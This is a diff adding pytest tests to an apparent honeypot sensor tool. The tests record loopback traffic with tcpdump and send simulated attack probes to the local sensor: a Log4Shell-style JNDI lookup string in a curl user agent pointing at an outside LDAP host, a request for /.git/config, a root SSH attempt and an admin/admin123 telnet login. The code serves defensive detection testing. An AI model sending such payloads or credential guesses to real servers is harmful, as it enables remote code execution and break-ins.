@@ -381,3 +381,86 @@ def test_sensor_usage_errors(trawl, tmp_path):
     p = trawl.run("sensor", "--bind", "127.0.0.1", "--tcp", free_port(), "--udp", "", "--out", "-",
                   "--upstream", "https://x", "--key", "k")
     assert p.returncode == 1 and "http://" in p.stderr
+
+
+def start_tcpdump(path, ports):
+    need("tcpdump")
+    if os.geteuid() != 0:
+        pytest.skip("capturing on lo needs root (tcpdump)")
+    warm = free_port()
+    flt = " or ".join("port %d" % p for p in ports + [warm])
+    td = subprocess.Popen(["tcpdump", "-i", "lo", "-U", "--immediate-mode", "-n", "-w", path, flt],
+                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    line = td.stderr.readline()
+    if "listening on" not in line:
+        td.kill()
+        pytest.skip("tcpdump cannot capture here: %s" % line.strip())
+    # "listening on" comes before the capture really runs: knock on a port
+    # nobody listens on until the capture file shows a packet.
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    deadline = time.time() + 20
+    while os.path.getsize(path) <= 24 and time.time() < deadline:
+        u.sendto(b"warm-up", ("127.0.0.1", warm))
+        time.sleep(0.05)
+    u.close()
+    return td
+
+
+def test_capture_import_agrees_with_live_events(trawl, tmp_path):
+    """The same connections seen live by the sensor and in a tcpdump capture
+    of them (imported with `trawl sensor import`) give the same fields."""
+    need("curl")
+    need("ssh")
+    s = Sensor(trawl, tmp_path, udp=True)
+    cap = str(tmp_path / "lo.pcap")
+    td = start_tcpdump(cap, list(s.ports.values()) + [s.udp_port])
+    try:
+        subprocess.run(["curl", "-s", "-A", "${jndi:ldap://198.51.100.7/a}",
+                        "http://127.0.0.1:%d/.git/config?x=1" % s.ports["http"]],
+                       capture_output=True, timeout=30)
+        subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+                        "-o", "BatchMode=yes", "-p", str(s.ports["ssh"]), "root@127.0.0.1", "true"],
+                       capture_output=True, timeout=30)
+        subprocess.run(["curl", "-sk", "--resolve", "a.example:%d:127.0.0.1" % s.ports["tls"],
+                        "https://a.example:%d/" % s.ports["tls"]], capture_output=True, timeout=30)
+        t = socket.create_connection(("127.0.0.1", s.ports["telnet"]))
+        recv_until(t, b"login: ")
+        # answers to the server's DO NAWS / WILL ECHO / WILL SGA, as telnet clients
+        # (and bots) send them: what marks telnet on a port with no telnet number
+        t.sendall(b"\xff\xfc\x1f\xff\xfd\x01\xff\xfd\x03admin\r\n")
+        recv_until(t, b"Password: ")
+        t.sendall(b"admin123\r\n")
+        recv_until(t, b"incorrect")
+        t.close()
+        m = socket.create_connection(("127.0.0.1", s.ports["smb"]))
+        m.sendall(smb2_negotiate(True))
+        m.recv(10)
+        m.close()
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.sendto(b"\x00\x01dns?", ("127.0.0.1", s.udp_port))
+        u.close()
+        live = s.wait_events(lambda e: True, count=6)
+        time.sleep(0.5)   # let the last FIN/ACK reach the capture
+    finally:
+        td.send_signal(signal.SIGINT)
+        td.wait(timeout=30)
+        assert s.stop() == 0
+    p = trawl.run("sensor", "import", "--name", "cap", cap, check=0)
+    assert " 0 bad" in p.stderr
+    imported = [json.loads(l) for l in p.stdout.splitlines()]
+    by_conn = {(e["transport"], e["src_port"], e["dst_port"]): e for e in imported}
+    protos = set()
+    for e in live:
+        key = (e["transport"], e["src_port"], e["dst_port"])
+        assert key in by_conn, "live event %s missing from the capture import" % (key,)
+        c = by_conn[key]
+        assert c["sensor"] == "cap" and c["proto"] == e["proto"], (c, e)
+        assert c["fields"] == e["fields"], (c, e)
+        # the capture may hold more: what the client sent after the sensor hung up
+        assert base64.b64decode(c.get("payload_b64", "")).startswith(
+            base64.b64decode(e.get("payload_b64", "")))
+        if e["transport"] == "tcp":
+            # the capture adds the packet evidence the listener cannot see
+            assert c["handshake"] is True and c["ttl"] == 64 and c["tcp_options"]
+        protos.add(e["proto"])
+    assert protos == {"http", "ssh", "tls", "telnet", "smb", "raw"}
